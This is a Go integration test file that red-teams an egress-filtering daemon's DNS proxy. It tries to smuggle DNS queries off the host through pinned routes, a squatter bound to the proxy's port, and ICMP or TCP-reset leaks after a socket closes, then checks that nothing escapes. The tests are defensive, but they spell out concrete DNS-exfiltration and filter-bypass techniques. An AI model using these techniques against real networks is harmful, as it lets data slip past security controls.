//go:build linux

package integration

import (
	"bytes"
	"fmt"
	"net"
	"net/netip"
	"os"
	"sync"
	"testing"
	"time"

	"github.com/egressd/egressd/internal/dnstest"
	"github.com/egressd/egressd/internal/testworld"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// Red team of the delivery of redirected queries and of the proxy's
// answers (redteam_dns_test.go says how the attacks are made): a query
// reaches egressd's proxy and nothing else, and nothing of it leaves the
// host.

// ---------------------------------------------------------------------------
// D8. A query whose route is pinned: a socket bound to the wire device
// (SO_BINDTODEVICE needs no privilege since Linux 5.7), a datagram sent
// with MSG_DONTROUTE, or IP_PKTINFO naming the device. The redirect
// rewrites the destination to 127.0.0.1; the pinned route must not carry
// the query out of the host to the resolver it named (nor the rewritten
// packet onto the wire).
func TestRedteamDNSPinnedRoute(t *testing.T) {
	w := newWorld(t)
	w.write("egressd.yaml", proxyMain)
	w.write("allow.d/billing.yaml", fmt.Sprintf("user: %d\ndns: proxy\nallow:\n  - api.example.test:443\n", uidA))
	p := w.addPeer("203.0.113.66")
	far, err := dnstest.ListenIn(p.Do, "203.0.113.66:53")
	w.must(err)
	t.Cleanup(far.Close)
	near, err := dnstest.ListenIn(p.Do, testworld.PeerWire4+":53")
	w.must(err)
	t.Cleanup(near.Close)
	w.start()
	wire := w.sniffBytes(p, "wire")
	ifi := 0
	w.must(w.ns.Do(func() error {
		i, err := net.InterfaceByName("wire")
		if err == nil {
			ifi = i.Index
		}
		return err
	}))
	for _, c := range []struct {
		what string
		dst  string
		send func(fd int, b []byte, sa unix.Sockaddr) error
	}{
		{"SO_BINDTODEVICE wire", "203.0.113.66:53", func(fd int, b []byte, sa unix.Sockaddr) error {
			if err := unix.SetsockoptString(fd, unix.SOL_SOCKET, unix.SO_BINDTODEVICE, "wire"); err != nil {
				return err
			}
			return unix.Sendto(fd, b, 0, sa)
		}},
		{"MSG_DONTROUTE to the peer's wire address", testworld.PeerWire4 + ":53", func(fd int, b []byte, sa unix.Sockaddr) error {
			return unix.Sendto(fd, b, unix.MSG_DONTROUTE, sa)
		}},
		{"IP_PKTINFO naming the wire", "203.0.113.66:53", func(fd int, b []byte, sa unix.Sockaddr) error {
			oob := unix.PktInfo4(&unix.Inet4Pktinfo{Ifindex: int32(ifi)})
			return unix.Sendmsg(fd, b, oob, sa, 0)
		}},
	} {
		label := fmt.Sprintf("pinned%d", len(c.what))
		name := label + ".tunnel.example."
		b, _ := question(name, dns.TypeA).Pack()
		res := ""
		w.must(w.ns.Do(func() error {
			if _, err := unix.SetfsuidRetUid(uidA); err != nil {
				return err
			}
			defer unix.SetfsuidRetUid(0) //nolint:errcheck
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			res = errName(c.send(fd, b, sockaddr(netip.MustParseAddrPort(c.dst))))
			return nil
		}))
		time.Sleep(100 * time.Millisecond)
		t.Logf("%-42s %s", c.what, res)
		if n := far.QueriesFor(name) + near.QueriesFor(name); n != 0 {
			t.Errorf("%s: the resolver on the peer received the unlisted %s", c.what, name)
		}
		if f := wire.frame(label); f != nil {
			t.Errorf("%s: the query for %s went out on the wire: %x", c.what, name, f[:min(len(f), 64)])
		}
	}
	// Control: root's query reaches the peer's resolver.
	port := w.rootQuery("203.0.113.66:53", "control.tunnel.example")
	for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline) && !wire.seen("control"); {
		time.Sleep(20 * time.Millisecond)
	}
	if far.QueriesFor("control.tunnel.example.") == 0 || !wire.seen("control") {
		t.Fatalf("control: root's query from port %d did not reach the peer", port)
	}
}

// byteSniffer keeps the frames that arrive on a device of ns (AF_PACKET,
// root, in the peer: the other host) and tells whether any held a string.
type byteSniffer struct {
	mu     sync.Mutex
	frames [][]byte
}

func (w *world) sniffBytes(ns interface{ Do(func() error) error }, dev string) *byteSniffer {
	w.t.Helper()
	s := &byteSniffer{}
	w.sniff(ns, dev, func(f []byte) {
		s.mu.Lock()
		s.frames = append(s.frames, append([]byte(nil), f...))
		s.mu.Unlock()
	})
	return s
}

func (s *byteSniffer) frame(sub string) []byte {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, f := range s.frames {
		if bytes.Contains(f, []byte(sub)) {
			return f
		}
	}
	return nil
}

func (s *byteSniffer) seen(sub string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, f := range s.frames {
		if bytes.Contains(f, []byte(sub)) {
			return true
		}
	}
	return false
}

func init() { childModes["dns-squat"] = childDNSSquat }

// childDNSSquat binds UDP addr (a port below 1024: it works only where
// net.ipv4.ip_unprivileged_port_start allows it), reports, then prints the
// name of every query it receives and answers it with 198.51.100.20.
func childDNSSquat(addr string) int {
	pc, err := net.ListenPacket("udp", addr)
	if err != nil {
		report(map[string]any{"bound": errName(err)})
		return otherError
	}
	report(map[string]any{"bound": "ok"})
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			q := new(dns.Msg)
			if q.Unpack(buf[:n]) != nil || len(q.Question) != 1 {
				continue
			}
			report(map[string]any{"name": q.Question[0].Name})
			r := new(dns.Msg)
			r.SetReply(q)
			r.Answer = append(r.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.IPv4(198, 51, 100, 20)})
			if b, err := r.Pack(); err == nil {
				pc.WriteTo(b, from) //nolint:errcheck
			}
		}
	}()
	os.Stdin.Read(make([]byte, 1)) //nolint:errcheck
	return 0
}

// ---------------------------------------------------------------------------
// D7. The proxy's port taken before egressd listens. dns_proxy_port is
// below 1024 so that only root can bind it; where
// net.ipv4.ip_unprivileged_port_start is lowered (containers, some
// distributions), a local user could bind 127.0.0.1:153 first — at boot,
// or while egressd restarts without egressd.socket — and egressd runs on
// (it logs dns_proxy_failed and retries) while the kernel redirects every
// protected user's query to that port. The kernel delivers a redirected
// query only to a socket with the proxy's mark (SO_MARK, which needs
// CAP_NET_ADMIN): the squatter receives none, the query fails.
func TestRedteamDNSProxyPortSquatted(t *testing.T) {
	w := newWorld(t)
	w.must(w.ns.Sysctl("net/ipv4/ip_unprivileged_port_start", "0"))
	w.write("egressd.yaml", proxyMain)
	w.write("allow.d/billing.yaml", fmt.Sprintf("user: %d\ndns: proxy\nallow:\n  - api.example.test:443\n", uidA))
	sq := w.startChild(uidNone, "dns-squat", "127.0.0.1:153")
	if m := sq.next(t, 5*time.Second); m["bound"] != "ok" {
		t.Fatalf("squatter: %v", m)
	}
	w.start()
	m, _, err := w.exchangeAs(uidA, "udp", 0, "192.0.2.53:53", question("exfil.tunnel.example.", dns.TypeA))
	t.Logf("billing's query for an unlisted name: %s", rcodeOf(m, err))
	select {
	case l, ok := <-sq.lines:
		if ok {
			t.Errorf("uid %d, which bound the proxy's port first, received billing's query: %s", uidNone, l)
		}
	case <-time.After(500 * time.Millisecond):
	}
}

// ---------------------------------------------------------------------------
// D10. The proxy's answer to a socket that is gone. The proxy answers a
// redirected query from 127.0.0.1:153; conntrack rewrites the answer's
// source back to the address the service asked (any address, of the
// service's choosing) and delivers it locally. If the service closed its
// socket before the answer came, the kernel answers the answer with an ICMP
// "port unreachable" to that address, quoting the answer — question
// section and all. That ICMP message comes from no socket, so no rule keyed
// by uid sees it: a question for a name of the service's choosing (a
// REFUSED answer carries it too) leaves the host for a host of its choosing.
func TestRedteamDNSAnswerToClosedSocket(t *testing.T) {
	w := newWorld(t)
	w.write("egressd.yaml", proxyMain)
	w.write("allow.d/billing.yaml", fmt.Sprintf("user: %d\ndns: proxy\nallow:\n  - api.example.test:443\n", uidA))
	p := w.addPeer("203.0.113.66", "2001:db8:66::1")
	w.start()
	wire := w.sniffBytes(p, "wire")
	for i, dst := range []string{"203.0.113.66:53", "[2001:db8:66::1]:53"} {
		label := fmt.Sprintf("exfil%dsecret", i)
		b, _ := question(label+".tunnel.example.", dns.TypeTXT).Pack()
		c, err := w.ns.DialAs(uidA, "udp", dst, time.Second)
		w.must(err)
		_, werr := c.Write(b)
		c.Close() // before the proxy's answer
		time.Sleep(300 * time.Millisecond)
		t.Logf("%s: send %s", dst, errName(werr))
		if f := wire.frame(label); f != nil {
			t.Errorf("the question %s.tunnel.example, sent to %s, left the host: %x", label, dst, f[:min(len(f), 80)])
		}
	}
	// Control: root's datagram to the peer is seen by the sniffer.
	w.must(w.ns.Do(func() error {
		c, err := net.Dial("udp", "203.0.113.66:9")
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = c.Write([]byte("control-datagram"))
		return err
	}))
	time.Sleep(100 * time.Millisecond)
	if !wire.seen("control-datagram") {
		t.Fatal("control: root's datagram to the peer was not seen on the wire")
	}
}

// tcpTo reports whether a TCP segment to dst (IPv4) crossed the wire.
func (s *byteSniffer) tcpTo(dst netip.AddrPort) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	a := dst.Addr().As4()
	for _, f := range s.frames {
		if len(f) < 14+20+4 || f[12] != 0x08 || f[13] != 0x00 {
			continue
		}
		ip := f[14:]
		ihl := int(ip[0]&0xf) * 4
		if ip[9] == 6 && bytes.Equal(ip[16:20], a[:]) && len(ip) >= ihl+4 && int(ip[ihl+2])<<8|int(ip[ihl+3]) == int(dst.Port()) {
			return true
		}
	}
	return false
}

// The same over TCP: the proxy's answer to a connection the service has
// already closed would make the kernel send a TCP reset to the address the
// service asked (from no socket: no rule keyed by uid sees it), carrying
// the ports the service chose. Blocked before the input chain too: the
// service's own reset reaches the proxy (redirected), whose answer is then
// never sent. Kept as a guard.
func TestRedteamDNSAnswerToClosedTCP(t *testing.T) {
	w := newWorld(t)
	w.write("egressd.yaml", proxyMain)
	w.write("allow.d/billing.yaml", fmt.Sprintf("user: %d\ndns: proxy\nallow:\n  - api.example.test:443\n", uidA))
	w.dns.Set("api.example.test", dnstest.Record{A: addrs("192.0.2.10"), TTL: 60, Delay: 200 * time.Millisecond})
	p := w.addPeer("203.0.113.66")
	w.start()
	wire := w.sniffBytes(p, "wire")
	dst := netip.MustParseAddrPort("203.0.113.66:53")
	c, err := w.ns.DialAs(uidA, "tcp", dst.String(), time.Second)
	w.must(err)
	b, _ := question("api.example.test.", dns.TypeA).Pack()
	_, werr := c.Write(append([]byte{byte(len(b) >> 8), byte(len(b))}, b...))
	c.(*net.TCPConn).SetLinger(0) //nolint:errcheck
	c.Close()                     // a reset, before the (slow) answer
	time.Sleep(600 * time.Millisecond)
	t.Logf("send %s", errName(werr))
	if wire.tcpTo(dst) {
		t.Errorf("a TCP segment to %s, which the service only asked a question of, crossed the wire", dst)
	}
}
